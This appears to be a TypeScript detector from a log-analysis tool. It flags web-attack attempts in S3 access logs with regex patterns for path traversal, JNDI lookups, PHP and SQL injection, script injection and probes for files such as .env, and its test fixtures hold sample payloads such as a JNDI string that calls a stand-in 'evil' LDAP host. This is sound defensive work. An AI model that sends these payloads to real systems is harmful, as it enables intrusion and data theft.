import { z } from 'zod'
import type { Example } from './lib/analysis.ts'
import { all, requesterFilter, requesterHas } from './lib/fragments.ts'
import { totalOf } from './lib/request-list.ts'
import { ADA, logLine } from './lib/sample-lines.ts'
import { join, sql, type Sql } from './lib/sql.ts'
import { suspectRequests } from './lib/suspect-requests.ts'
import { counted } from './lib/words.ts'

/**
 * What attackers write into addresses, as it stands in a request line or percent-encoded; the first that
 * fits names the request.
 */
const ATTACKS = {
  'path traversal': '[.][.](/|%2f|%5c)|%2e%2e(/|%2f|%5c)|etc(/|%2f)passwd',
  'JNDI lookup': '([$]|%24)([{]|%7b)(jndi|.{0,40}lower)',
  'PHP code': '(<|%3c)([?]|%3f)php|php(:|%3a)//|allow_url_include',
  'SQL injection':
    "union([+ ]|%20)+(all([+ ]|%20)+)?select|('|%27)([+ ]|%20)*or([+ ]|%20)*('|%27|[0-9])|information_schema|sleep([(]|%28)[0-9]",
  scripting: '(<|%3c)script|(<|%3c)img[^>]{0,200}onerror|javascript(:|%3a)',
  'files of a server': '/([.]git/|[.]env|[.]svn/|wp-login|wp-admin|cgi-bin/|phpmyadmin|[.]htaccess)',
} as const

const text = sql`lower(concat_ws(' ', request_uri, referrer))`
const hasKind = (kind: keyof typeof ATTACKS): Sql => sql`regexp_like(${text}, ${ATTACKS[kind]})`
const KINDS = [
  'path traversal',
  'JNDI lookup',
  'PHP code',
  'SQL injection',
  'scripting',
  'files of a server',
] as const
const kindOf = sql`CASE ${join(
  KINDS.map(kind => sql`WHEN ${hasKind(kind)} THEN ${kind}`),
  ' ',
)} END`

export default suspectRequests({
  title: 'Web attacks in addresses',
  answers: 'Did anyone try web attacks, such as path traversal or injection, on this bucket?',
  words: ['path traversal', 'sql injection', 'log4shell', 'jndi', 'xss', 'scanner', 'exploit', 'web attack'],
  reads: ['access-log'],
  why: 'Only access logs have the address that was asked for, and the referrer.',
  blind: {},
  parameters: z.object({
    kind: z
      .enum(['any', ...KINDS])
      .default('any')
      .describe('Which attack to look for.')
      .meta({ title: 'Attack' }),
    requester: requesterFilter,
  }),
  own: [{ column: { name: 'attack', title: 'Attack', kind: 'text' }, value: sql`${kindOf} AS attack` }],
  shown: ['event_time', 'attack', 'remote_ip', 'requester', 'request_uri', 'status'],
  from({ kind, requester }) {
    const attacks = kind === 'any' ? sql`${kindOf} IS NOT NULL` : sql`${kindOf} = ${kind}`
    return sql`FROM events WHERE ${all(attacks, requesterHas(requester))}`
  },
  found: (requests, { bucket }) =>
    `${counted(requests, 'request')} to ${bucket} ${requests === 1 ? 'carries' : 'carry'} what web attacks are made of`,
  nothing: ({ bucket }) => `No request to ${bucket} carries a known web attack in this window.`,
  severity: results =>
    totalOf(results, 'succeeded') > 0
      ? { level: 'medium', why: 'Some of them were answered: see what they were given.' }
      : { level: 'low', why: 'None of them was given anything.' },
  notes: () => [
    'S3 runs no code, so such requests find files at most; they tell who looks for weak places, often in a website before the bucket.',
  ],
})

const get = (uri: string, fields = {}) =>
  logLine({ operation: 'REST.GET.OBJECT', key: 'k', uri: `GET ${uri} HTTP/1.1`, ...fields })
const failed = { status: 404, errorCode: 'NoSuchKey', requester: '-' }

export const examples: readonly Example[] = [
  {
    title: 'finds attacks in request lines and referrers, plain or encoded, and names them',
    log: 'access-log',
    lines: [
      get('/../../etc/passwd', { at: '01:00', ...failed }),
      get('/%2E%2E%2Fsecret', { at: '02:00', ...failed }),
      get('/x?q=%24%7Bjndi:ldap://evil%7D', { at: '03:00', ...failed }),
      get('/x?q=1%27%20or%201=1', { at: '04:00', ...failed }),
      get('/.git/config', { at: '05:00', ...failed }),
      get('/index.html', { at: '06:00', referrer: '<script>alert(1)</script>', ...failed }),
      get('/x?page=php://input', { at: '07:00', ...failed }),
    ],
    rows: [
      { attack: 'path traversal', requester: '(anonymous)' },
      { attack: 'path traversal' },
      { attack: 'JNDI lookup' },
      { attack: 'SQL injection' },
      { attack: 'files of a server' },
      { attack: 'scripting' },
      { attack: 'PHP code' },
    ],
    headline:
      '7 requests to my-bucket carry what web attacks are made of, all by (anonymous) from 203.0.113.7',
    severity: 'low',
  },
  {
    title: 'takes no ordinary address for one',
    log: 'access-log',
    lines: [
      get('/v1..2/notes.txt'),
      get('/organisation/select-union.csv'),
      get('/my.environment/orders'),
      get('/scripts/app.js?versionId=a.b'),
    ],
    rows: [],
    headline: 'No request to my-bucket carries a known web attack',
  },
  {
    title: 'finds one kind of them, by one person, and minds that it was answered',
    log: 'access-log',
    lines: ['/.env', '/../a'].flatMap(uri => [
      get(uri),
      get(uri, { requester: 'arn:aws:iam::111122223333:user/bob' }),
    ]),
    parameters: { kind: 'files of a server', requester: 'ada' },
    rows: [{ attack: 'files of a server', requester: ADA }],
    headline: '1 request to my-bucket carries',
    severity: 'medium',
  },
]
